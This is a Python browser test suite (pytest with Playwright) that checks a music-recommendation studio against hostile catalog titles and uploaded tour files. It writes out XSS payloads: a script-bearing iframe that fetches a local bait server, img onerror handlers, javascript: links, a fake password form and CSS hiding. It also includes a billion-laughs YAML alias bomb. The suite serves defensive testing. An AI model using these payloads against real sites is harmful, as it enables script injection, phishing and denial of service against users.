"""Hostile catalog data in a running studio, in headless Chromium with two browser sessions: titles and
artists holding HTML, scripts, styles, forms, outside images and markdown images execute nothing, inject
nothing and fetch nothing on any page (the Tour included); hostile tour files (markdown images in every string,
a billion-laughs alias bomb, wrong types) fetch nothing and raise nothing; folder paths on the server and
overwriting from the browser are refused (the demo above all)."""
from __future__ import annotations

import os
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from benchmarks.studio import CHROMIUM, CHROMIUM_ARGS, start_studio, stop_studio, wait_healthy
from tests.app.demo_env import build_small_demo, small_demo_env
from tests.browser.test_browser import ARTIFACTS, WAIT_MS, free_port, idle, nav, shot, why_buttons

pytestmark = pytest.mark.browser


class Bait(BaseHTTPRequestHandler):
    """An outside server the hostile titles point at: any request to it is a fetch that must not happen."""

    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        Bait.hits.append(self.path)
        self.send_response(404)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args) -> None:
        pass


def hostile_titles(bait: str) -> list[str]:
    """Titles an attacker would upload, each trying one thing; `bait` is the outside server's address."""
    return [
        f'<iframe srcdoc="<script>parent.window.__pwned=1;fetch(\'{bait}/iframe\')</script>"></iframe>',
        "<style>body{display:none !important}</style>Restyled",
        f'<form action="{bait}/form"><input type="password" name="pw" placeholder="password"></form>',
        f'<img src="{bait}/img.png" onerror="window.__pwned=2">',
        f"![tracker]({bait}/markdown.png)",
        f'<script>window.__pwned=3</script><a href="javascript:window.__pwned=4">click</a> :red[alarm]',
    ]


def build_hostile_demo(root: Path, bait: str) -> dict[str, str]:
    """The small demo whose titles and artists are all hostile, encoded and trained as the app would."""
    env = small_demo_env(root)
    old = {k: os.environ.get(k) for k in env}
    os.environ.update(env)
    try:
        from core.catalog.demo import DemoConfig
        from core.workspace.imports import ensure_demo_catalog
        from core.store.database import Store

        store = Store(root)
        catalog = ensure_demo_catalog(store, DemoConfig.from_env())
        titles = hostile_titles(bait)
        for k, item in enumerate(catalog.items):
            item.title = titles[k % len(titles)]
            item.metadata["artist"] = titles[(k + 1) % len(titles)]
            item.metadata["genre"] = titles[(k + 2) % len(titles)]
        store.save_catalog(catalog, overwrite=True)
    finally:
        for k, v in old.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
    return build_small_demo(root, with_runs=True)


@pytest.fixture(scope="module")
def bait() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", free_port()), Bait)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()


@pytest.fixture(scope="module")
def hostile_studio(tmp_path_factory, bait) -> Iterator[tuple[str, Path]]:
    root = tmp_path_factory.mktemp("prism-hostile-browser")
    env = build_hostile_demo(root, bait)
    port = free_port()
    ARTIFACTS.mkdir(exist_ok=True)
    log = (ARTIFACTS / "streamlit-hostile.log").open("wb")
    clean = {k: v for k, v in os.environ.items() if k not in ("PRISM_IMPORT_ROOTS", "PRISM_ALLOW_BROWSER_OVERWRITE")}
    proc = start_studio({**clean, **env}, port, log)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_healthy(url, proc)
        yield url, root
    finally:
        stop_studio(proc)
        log.close()


@pytest.fixture(scope="module")
def browser():
    sync_api = pytest.importorskip("playwright.sync_api")
    if not Path(CHROMIUM).exists():
        pytest.skip(f"{CHROMIUM} is absent; install Debian's chromium to run the browser test")
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
        yield b
        b.close()


def session(browser, studio: str, outside: list[str]):
    """A new browser session (its own context) that records every request leaving the studio."""
    context = browser.new_context(viewport={"width": 1500, "height": 1000})
    pg = context.new_page()
    pg.set_default_timeout(WAIT_MS)
    pg.on("request", lambda r: None if r.url.startswith((studio, "data:", "blob:", "about:"))
          else outside.append(r.url))
    return context, pg


INJECTED = """(bait) => ({
  links: [...document.querySelectorAll('a[href]')].filter(a => a.href.startsWith(bait)).length,
  pwned: window.__pwned === undefined ? null : window.__pwned,
  srcdoc: document.querySelectorAll('iframe[srcdoc]').length,
  forms: document.querySelectorAll('form[action], input[type=password]').length,
  images: [...document.images].filter(i => !i.src.startsWith(location.origin) && !i.src.startsWith('data:')
                                           && !i.src.startsWith('blob:')).length,
  scripts: [...document.scripts].filter(s => s.textContent.includes('__pwned')).length,
  hidden: getComputedStyle(document.body).display === 'none',
  jsLinks: document.querySelectorAll('a[href^="javascript:"]').length,
})"""


def assert_clean(pg, where: str, bait: str) -> None:
    found = pg.evaluate(INJECTED, bait)
    assert found == {"links": 0, "pwned": None, "srcdoc": 0, "forms": 0, "images": 0, "scripts": 0,
                     "hidden": False, "jsLinks": 0}, f"{where}: {found}"


def test_hostile_titles_run_nothing_on_any_page(hostile_studio, browser, bait) -> None:
    studio, _ = hostile_studio
    outside: list[str] = []
    ctx, pg = session(browser, studio, outside)
    try:
        pg.goto(studio)
        pg.get_by_text("recommendations from words, pictures and sound").wait_for()
        idle(pg)
        assert_clean(pg, "Home", bait)

        nav(pg, "Catalog")
        pg.get_by_text("Must have").first.wait_for()
        idle(pg)
        pg.get_by_text("Restyled").first.wait_for()  # the style title is shown as text
        assert pg.get_by_text("<style>body{display:none !important}</style>Restyled").count() >= 1
        assert_clean(pg, "Catalog", bait)
        pg.get_by_text("Table and item details").click()
        idle(pg)
        assert_clean(pg, "Catalog details", bait)
        shot(pg, "hostile-1-catalog")

        nav(pg, "Recommend")
        pg.get_by_label("Describe what you want to hear").fill("calm ambient piano")
        pg.get_by_role("button", name="Recommend", exact=True).click()
        pg.get_by_text("ms in all").wait_for()
        idle(pg)
        why_buttons(pg).nth(9).wait_for()
        assert_clean(pg, "Recommend", bait)
        shot(pg, "hostile-2-recommend")

        why_buttons(pg).first.click()
        idle(pg)
        pg.get_by_text("Exact Shapley values").wait_for()
        assert_clean(pg, "Explain", bait)
        shot(pg, "hostile-3-explain")

        nav(pg, "Tour")  # the catalog step draws hostile titles as cover captions and the "Listen" line
        pg.get_by_text("Step 1 of").first.wait_for()
        idle(pg)
        pg.get_by_text("Listen:").first.wait_for()
        assert pg.get_by_test_id("stException").count() == 0, "Tour raised"
        assert_clean(pg, "Tour, catalog step", bait)
        pg.get_by_role("button", name="Next").click()
        idle(pg)
        pg.get_by_text("Step 2 of").first.wait_for()
        idle(pg)
        assert_clean(pg, "Tour, query step", bait)
        shot(pg, "hostile-3b-tour")

        for label, ready in (("Evaluate", "Download a run"), ("Train", "Saved models")):
            nav(pg, label)
            pg.get_by_text(ready).first.wait_for()
            idle(pg)
            assert pg.get_by_test_id("stException").count() == 0, f"{label} raised"
            assert_clean(pg, label, bait)
    finally:
        ctx.close()

    # a second session, as another visitor of the same studio
    ctx, pg = session(browser, studio, outside)
    try:
        pg.goto(f"{studio}/catalog")
        pg.get_by_text("Must have").first.wait_for()
        idle(pg)
        assert_clean(pg, "Catalog, second session", bait)
    finally:
        ctx.close()
    assert outside == [], f"the browser fetched outside the studio: {outside}"
    assert Bait.hits == [], f"the bait server was reached: {Bait.hits}"


def test_server_paths_and_overwrite_are_refused_from_the_browser(hostile_studio, browser, tmp_path) -> None:
    import zipfile

    from core.store.database import Store

    studio, root = hostile_studio
    store = Store(root)
    before = store.load_catalog("demo").content_hash()
    archive = tmp_path / "demo.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("manifest.csv", "id,title,text\nx1,Replacement,words words\n")
    outside: list[str] = []
    ctx, pg = session(browser, studio, outside)
    try:
        pg.goto(f"{studio}/catalog")
        pg.get_by_text("Must have").first.wait_for()
        idle(pg)
        pg.get_by_role("tab", name="Import").click()
        idle(pg)
        assert pg.get_by_text("Manifest (folder path)").count() == 0  # no server paths by default
        assert pg.get_by_text("MMRec (folder path)").count() == 0
        assert pg.get_by_role("checkbox", name="Overwrite").count() == 0  # no overwrite by default
        pg.locator("[data-testid='stFileUploaderDropzoneInput']").last.set_input_files(str(archive))
        pg.get_by_text("demo.zip").first.wait_for()
        pg.get_by_role("button", name="Import", exact=True).click()
        idle(pg)
        error = pg.get_by_test_id("stAlertContentError").filter(has_text="built-in demo")
        error.first.wait_for()
        assert "nothing was changed" in error.first.inner_text()
        shot(pg, "hostile-4-import-refused")
    finally:
        ctx.close()
    assert store.load_catalog("demo").content_hash() == before
    assert store.list_catalogs()["name"].tolist() == ["demo"]


def hostile_tours(bait: str) -> dict[str, str]:
    """Tour files an attacker would upload: markdown images and links in every string, a billion-laughs
    alias bomb, and wrong types; `bait` is the outside server's address."""
    md = f"![tracker]({bait}/tour.png) [link]({bait}/l) <img src='{bait}/tour-img.png'>"
    laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    laughs += [f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]" for i in range(8)]
    return {
        "bait.yaml": f"""title: "Tour {md}"
steps:
  - kind: catalog
    title: "Covers {md}"
    narration: "Narration {md}"
    notes: "Notes {md}"
  - kind: query
    title: "Query {md}"
    narration: "Stage labels {md}"
    stages:
      - label: "![stage]({bait}/stage.png)"
        text: "calm ambient piano"
""",
        "laughs.yaml": "\n".join([*laughs, "steps:", "  - kind: catalog", "    title: *i"]) + "\n",
        "types.yaml": "steps:\n  - {kind: catalog, title: Covers, covers: abc}\n  - {kind: explain, title: Why, "
                      "item: -100}\n",
    }


def test_hostile_tour_files_fetch_nothing_and_break_nothing(hostile_studio, browser, bait, tmp_path) -> None:
    studio, _ = hostile_studio
    files = {}
    for name, text in hostile_tours(bait).items():
        files[name] = tmp_path / name
        files[name].write_text(text)
    outside: list[str] = []
    ctx, pg = session(browser, studio, outside)
    try:
        pg.goto(f"{studio}/tour")
        pg.get_by_text("Step 1 of").first.wait_for()
        idle(pg)
        pg.get_by_text("Your own tour (YAML or JSON)").click()
        upload = pg.locator("[data-testid='stFileUploaderDropzoneInput']").last
        upload.set_input_files(str(files["bait.yaml"]))
        idle(pg)
        pg.get_by_text("Narration").first.wait_for()
        assert pg.get_by_test_id("stException").count() == 0
        assert_clean(pg, "Tour, hostile tour file", bait)
        pg.get_by_role("button", name="Next").click()
        idle(pg)
        pg.get_by_text("Stage labels").first.wait_for()
        idle(pg)
        assert_clean(pg, "Tour, hostile tour file, query step", bait)
        shot(pg, "hostile-5-tour-file")
        for name, fragment in (("laughs.yaml", "YAML aliases"), ("types.yaml", "field covers")):
            upload.set_input_files(str(files[name]))
            idle(pg)
            pg.get_by_test_id("stAlertContentError").filter(has_text=fragment).first.wait_for()
            assert pg.get_by_test_id("stException").count() == 0, name
        shot(pg, "hostile-6-tour-refused")
    finally:
        ctx.close()
    assert outside == [], f"the browser fetched outside the studio: {outside}"
    assert Bait.hits == [], f"the bait server was reached: {Bait.hits}"
